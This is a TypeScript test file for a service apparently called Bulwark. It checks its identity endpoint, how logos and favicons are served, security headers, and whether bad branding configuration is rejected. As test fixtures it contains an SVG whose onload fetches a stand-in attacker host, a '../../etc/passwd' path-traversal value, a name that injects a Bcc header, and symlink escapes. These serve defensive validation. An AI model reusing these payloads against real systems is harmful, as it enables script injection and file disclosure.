// The deployment's identity over HTTP: the public identity endpoint says only what every page shows,
// the logo goes out with its exact type and under a policy that lets an SVG run nothing, the favicon
// follows the mark, and exported workbooks name the deployment, not a hard-coded product.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createRequire } from 'node:module';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, loadConfig } from '../../src/platform/config.js';
import { CONTENT_SECURITY_POLICY } from '../../src/platform/http/security-headers.js';
import { loadDeploymentIdentity } from '../../src/platform/identity/deployment-identity.js';
import { createTestApp, orgId, signIn, testConfig, type TestApp } from '../support/app.js';

const SVG_LOGO = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40"><rect width="120" height="40" fill="#fff"/><text x="6" y="26" fill="#005eb8">Northshire Care</text></svg>\n';
const PNG_LOGO = (() => {
  const bytes = Buffer.alloc(80);
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]).copy(bytes);
  bytes.write('IHDR', 12, 'latin1');
  bytes.writeUInt32BE(300, 16);
  bytes.writeUInt32BE(100, 20);
  return bytes;
})();
const NHS_FAVICON = fs.readFileSync(createRequire(import.meta.url).resolve('nhsuk-frontend/dist/nhsuk/assets/images/favicon.svg'));
const SVG_POLICY = "default-src 'none'; style-src 'unsafe-inline'";

let dataDir: string;
/** A folder beside the data folder, and a link to the data folder itself. */
let elsewhere: string;
beforeAll(() => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'bulwark-identity-'));
  fs.writeFileSync(path.join(dataDir, 'logo.svg'), SVG_LOGO);
  fs.writeFileSync(path.join(dataDir, 'logo.png'), PNG_LOGO);
  fs.writeFileSync(path.join(dataDir, 'hostile.svg'), '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://attacker.example\')"/>');
  elsewhere = fs.mkdtempSync(path.join(os.tmpdir(), 'bulwark-identity-elsewhere-'));
  fs.writeFileSync(path.join(elsewhere, 'other.svg'), SVG_LOGO);
  fs.symlinkSync(path.join(elsewhere, 'other.svg'), path.join(dataDir, 'linked.svg'));
  fs.symlinkSync(elsewhere, path.join(dataDir, 'linked-folder'));
  fs.symlinkSync(dataDir, path.join(elsewhere, 'data'));
  // The web app's page, as the build leaves it beside its scripts.
  fs.mkdirSync(path.join(elsewhere, 'web'));
  fs.copyFileSync(path.resolve(import.meta.dirname, '../../src/web/index.html'), path.join(elsewhere, 'web/index.html'));
});
afterAll(() => {
  fs.rmSync(dataDir, { recursive: true, force: true });
  fs.rmSync(elsewhere, { recursive: true, force: true });
});

const get = (t: TestApp, url: string) => t.server.inject({ method: 'GET', url });

describe('the default: Bulwark’s own name and wordmark', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ demo: false });
  });
  afterAll(() => t.close());

  it('the identity needs no sign-in and says only the names and the mark', async () => {
    const res = await get(t, '/api/v1/identity');
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ serviceName: 'Bulwark', organisationName: null, mark: 'wordmark', logoUrl: null });
  });

  it('the favicon is Bulwark’s shield, not the NHS favicon, and there is no logo file', async () => {
    const favicon = await get(t, '/api/v1/identity/favicon');
    expect(favicon.statusCode).toBe(200);
    expect(favicon.headers['content-type']).toBe('image/svg+xml');
    expect(favicon.headers['content-security-policy']).toBe(SVG_POLICY);
    expect(favicon.body).toMatch(/^<svg /);
    expect(favicon.rawPayload.equals(NHS_FAVICON)).toBe(false);
    expect((await get(t, '/api/v1/identity/logo')).statusCode).toBe(404);
  });
});

describe('a deployment with its own names and SVG logo', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ webRoot: path.join(elsewhere, 'web'), env: { BULWARK_DATA_DIR: dataDir, BULWARK_LOGO: 'logo.svg', BULWARK_SERVICE_NAME: 'Cyber Hub', BULWARK_ORGANISATION_NAME: 'Northshire Care Ltd' } });
  });
  afterAll(() => t.close());

  it('names the service and organisation, with a logo address that changes with the file', async () => {
    const identity = (await get(t, '/api/v1/identity')).json<{ logoUrl: string }>();
    expect(identity).toEqual({ serviceName: 'Cyber Hub', organisationName: 'Northshire Care Ltd', mark: 'logo', logoUrl: expect.stringMatching(/^\/api\/v1\/identity\/logo\?v=[0-9a-f]{12}$/) });
  });

  it('serves the logo as it is, with its exact type, no sniffing and an SVG policy that runs and loads nothing', async () => {
    const { logoUrl } = (await get(t, '/api/v1/identity')).json<{ logoUrl: string }>();
    const logo = await get(t, logoUrl);
    expect(logo.statusCode).toBe(200);
    expect(logo.body).toBe(SVG_LOGO);
    expect(logo.headers['content-type']).toBe('image/svg+xml');
    expect(logo.headers['x-content-type-options']).toBe('nosniff');
    expect(logo.headers['content-security-policy']).toBe(SVG_POLICY);
    expect((await get(t, '/api/v1/identity/favicon')).body).toBe(SVG_LOGO);
  });

  it('the page sent before any script runs is titled with the service’s name, at every address the app answers', async () => {
    for (const url of ['/', '/sign-in', '/index.html', '/orgs/anything/people']) {
      const res = await t.server.inject({ method: 'GET', url, headers: { 'accept-encoding': 'br, gzip' } });
      expect(res.statusCode, url).toBe(200);
      expect(res.headers['content-type'], url).toBe('text/html; charset=utf-8');
      expect(res.headers['cache-control'], url).toBe('no-cache');
      expect(res.headers['content-security-policy'], url).toBe(CONTENT_SECURITY_POLICY);
      expect(res.body, url).toContain('<title>Cyber Hub</title>');
      expect(res.body, url).toContain('Cyber Hub needs JavaScript to run.');
    }
  });

  it('an exported workbook is authored by the organisation running the service', async () => {
    const auditor = await signIn(t.server, 'auditor@northshire-acute.example');
    const res = await auditor.get(`/api/v1/orgs/${await orgId(t.app, 'RZZ')}/assets/export?format=xlsx`);
    expect(res.statusCode, res.body).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    expect(workbook.creator).toBe('Northshire Care Ltd');
  });
});

describe('a PNG logo', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ demo: false, env: { BULWARK_DATA_DIR: dataDir, BULWARK_LOGO: 'logo.png' } });
  });
  afterAll(() => t.close());

  it('goes out as image/png, byte for byte, under the page policy', async () => {
    const logo = await get(t, '/api/v1/identity/logo');
    expect(logo.headers['content-type']).toBe('image/png');
    expect(logo.rawPayload.equals(PNG_LOGO)).toBe(true);
    expect(logo.headers['content-security-policy']).not.toBe(SVG_POLICY);
    expect(logo.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe('an NHS organisation’s own service', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ demo: false, env: { BULWARK_NHS_IDENTITY: 'true', BULWARK_ORGANISATION_NAME: 'Northshire Hospitals NHS Foundation Trust' } });
  });
  afterAll(() => t.close());

  it('shows the NHS mark with the organisation’s name, and the NHS favicon', async () => {
    expect((await get(t, '/api/v1/identity')).json()).toEqual({ serviceName: 'Bulwark', organisationName: 'Northshire Hospitals NHS Foundation Trust', mark: 'nhs', logoUrl: null });
    const favicon = await get(t, '/api/v1/identity/favicon');
    expect(favicon.rawPayload.equals(NHS_FAVICON)).toBe(true);
    expect(favicon.headers['content-type']).toBe('image/svg+xml');
  });
});

describe('settings that are refused before anything starts', () => {
  const refusal = (env: Record<string, string>) => {
    try {
      loadDeploymentIdentity(testConfig({ BULWARK_DATA_DIR: dataDir, ...env }).identity);
    } catch (error) {
      expect(error).toBeInstanceOf(ConfigError);
      return (error as Error).message;
    }
    throw new Error('the settings were accepted');
  };

  it.each([
    ['the NHS identity without the organisation’s name', { BULWARK_NHS_IDENTITY: 'true' }, 'BULWARK_ORGANISATION_NAME: required with BULWARK_NHS_IDENTITY=true'],
    ['the NHS identity and a logo together', { BULWARK_NHS_IDENTITY: 'true', BULWARK_ORGANISATION_NAME: 'Northshire Trust', BULWARK_LOGO: 'logo.svg' }, 'BULWARK_LOGO: not used with BULWARK_NHS_IDENTITY=true'],
    ['a logo outside the data folder', { BULWARK_LOGO: '../../etc/passwd' }, 'is outside the data folder'],
    ['a logo file that is not there', { BULWARK_LOGO: 'missing.svg' }, 'the logo file missing.svg'],
    ['an SVG logo with an event attribute', { BULWARK_LOGO: 'hostile.svg' }, 'has an event attribute (onload), which runs script'],
    ['a service name of spaces', { BULWARK_SERVICE_NAME: '   ' }, 'BULWARK_SERVICE_NAME'],
    ['a logo that is a link to a file outside the data folder', { BULWARK_LOGO: 'linked.svg' }, 'cannot be used: it is a link to'],
    ['a logo in a linked folder outside the data folder', { BULWARK_LOGO: 'linked-folder/other.svg' }, 'outside the data folder; copy the logo itself into the data folder'],
    ['a service name on two lines', { BULWARK_SERVICE_NAME: 'Cyber\nBcc: someone@example.org' }, 'BULWARK_SERVICE_NAME: must be one line of text, without line breaks, tabs or other control characters'],
    ['an organisation name with a tab', { BULWARK_ORGANISATION_NAME: 'Northshire\tTrust' }, 'BULWARK_ORGANISATION_NAME: must be one line of text'],
  ])('%s', (_, env, message) => {
    expect(refusal(env)).toContain(message);
  });

  it('a refused logo is named with its path and the reason', () => {
    expect(refusal({ BULWARK_LOGO: 'hostile.svg' })).toBe(
      `Invalid configuration:\n  BULWARK_LOGO: the logo file hostile.svg (${path.join(dataDir, 'hostile.svg')}) cannot be used: <svg> has an event attribute (onload), which runs script`,
    );
  });

  it('a data folder reached through a link may hold the logo', () => {
    const identity = loadDeploymentIdentity(testConfig({ BULWARK_DATA_DIR: path.join(elsewhere, 'data'), BULWARK_LOGO: 'logo.svg' }).identity);
    expect(identity.mark.kind === 'logo' && identity.mark.logo.bytes.toString()).toBe(SVG_LOGO);
  });

  it('the settings are read only from what is given', () => {
    expect(loadConfig({}).identity).toEqual({ serviceName: 'Bulwark', organisationName: undefined, logoFile: undefined, dataDir: path.resolve('data'), nhsIdentity: false });
  });
});
